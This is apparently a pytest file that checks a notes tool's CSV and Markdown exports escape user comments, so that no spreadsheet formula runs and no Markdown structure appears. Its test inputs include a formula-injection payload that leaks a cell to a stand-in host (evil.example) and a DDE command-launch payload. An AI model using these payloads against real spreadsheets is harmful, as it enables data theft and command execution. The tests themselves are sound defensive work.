"""Exports of a shared notes file are data, not instructions: no formula runs when the CSV is
opened in a spreadsheet, and no comment turns into Markdown structure in the report."""

from __future__ import annotations

import csv
import io
import re

import pytest
from markdown_it import MarkdownIt

from tui.core.export import export_csv, export_markdown
from tui.core.notes import (
    Annotation,
    ArticleRef,
    NotesDocument,
    Target,
    TextPosition,
    TextQuote,
)

TARGET = Target(
    ArticleRef("wire", "/news/wire.txt", "f" * 64, "Wire", "Wire Service"),
    TextQuote("The mayor said 12 people died.", "", ""),
    TextPosition(0, 30),
    0,
)


def document(comment: str, tags: tuple[str, ...] = ()) -> NotesDocument:
    note = Annotation("a-1", "note", (TARGET,), comment=comment, tags=tags, created="2026")
    return NotesDocument().with_annotations([note])


def csv_row(doc: NotesDocument) -> dict[str, str]:
    (row,) = csv.DictReader(io.StringIO(export_csv(doc)))
    return row


@pytest.mark.parametrize(
    "comment",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+1+2",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
    ],
)
def test_csv_cells_that_would_be_formulas_get_a_leading_quote(comment: str) -> None:
    row = csv_row(document(comment, tags=("=cmd|' /C calc'!A0", "plain")))
    assert row["comment"] == "'" + comment
    assert row["tags"] == "'=cmd|' /C calc'!A0; plain"


def test_csv_cells_that_are_not_formulas_are_left_alone() -> None:
    row = csv_row(document("Toll: 12 or 14? -- ask", tags=("toll",)))
    assert row["comment"] == "Toll: 12 or 14? -- ask"
    assert row["tags"] == "toll"
    assert row["sentence"] == "1"  # numbers are numbers


def test_a_comment_opening_with_a_plus_is_escaped() -> None:
    """Renderers differ on "+1+2" (some lenient ones make it a list item): escaped, none does."""
    assert "\n\\+1+2\n" in export_markdown(document("+1+2"))


def rendered_comment(comment: str) -> str:
    """The HTML CommonMark makes of the annotation's comment (what follows the quote)."""
    report = export_markdown(document(comment))
    html = MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(report)  # GFM-like
    return html.split("</blockquote>", 1)[1]


@pytest.mark.parametrize(
    "comment",
    [
        "+1+2",
        "+ 1 + 2",
        "- not a list",
        "* nor this",
        "1. nor a numbered list",
        "2) nor this",
        "# not a heading",
        "> not a quote",
        "A line\n===",
        "A line\n---",
        "***",
        "```\nnot code\n```",
        "~~~",
        "    four spaces are not code",
        "\tnor is a tab",
        "<div>not html</div>",
        "[ref]: http://example.com",
        "| a | b |\n| --- | --- |",
    ],
)
def test_markdown_comments_stay_plain_text(comment: str) -> None:
    html = rendered_comment(comment)
    structure = re.findall(r"<(ul|ol|li|h\d|blockquote|pre|code|hr|div|table|s)\b", html)
    assert structure == [], html
    text = re.sub(r"<[^>]+>", "", html).replace("&lt;", "<").replace("&gt;", ">")
    text = text.replace("&amp;", "&").replace("&quot;", '"').replace("\u00a0", " ")
    words = comment.replace("\t", "    ").split()
    assert text.split() == words, html
